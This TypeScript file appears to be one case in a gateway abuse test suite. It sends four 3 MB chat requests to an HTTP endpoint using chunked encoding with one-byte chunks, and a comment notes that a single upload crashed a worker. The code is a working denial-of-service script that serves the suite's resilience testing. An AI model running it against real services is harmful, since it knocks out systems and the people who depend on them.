import { connect, type Socket } from 'node:net'
import type { AbuseRow } from '../row.ts'

const Uploads = 4
const BodyBytes = 3_000_000
const PiecesEach = 10_000

/** Each chunk that is kept takes a hundred times its one byte and more: one such upload ended a worker. */
export const row: AbuseRow = {
  name: 'tiny-chunks',
  what: `${Uploads} uploads of ${BodyBytes / 1e6} MB without a length, in chunks of one byte`,
  async attack({ host, port, key }) {
    const ends = await Promise.all(
      Array.from({ length: Uploads }, () => upload(connect(port, host), key))
    )
    return `answered ${ends.join(', ')}`
  }
}

async function upload(socket: Socket, key: string): Promise<string> {
  let answer = ''
  socket.setEncoding('latin1').on('data', (text: string) => (answer += text))
  socket.on('error', () => {}) // refused before all was sent, or the gateway died
  const closed = new Promise((resolve) => socket.once('close', resolve))
  const content = 'x'.repeat(BodyBytes)
  const body = JSON.stringify({ model: 'auto', messages: [{ role: 'user', content }] })
  socket.write(
    `POST /v1/chat/completions HTTP/1.1\r\nhost: gateway\r\nauthorization: Bearer ${key}\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n`
  )
  for (let at = 0; at < body.length && !socket.destroyed; at += PiecesEach) {
    const chunks = Array.from(body.slice(at, at + PiecesEach), (byte) => `1\r\n${byte}\r\n`)
    if (!socket.write(chunks.join(''))) await Promise.race([drained(socket), closed])
  }
  socket.write('0\r\n\r\n')
  await closed
  return answer.slice('HTTP/1.1 '.length, 'HTTP/1.1 200'.length) || 'nothing'
}

function drained(socket: Socket): Promise<unknown> {
  return new Promise((resolve) => socket.once('drain', resolve))
}
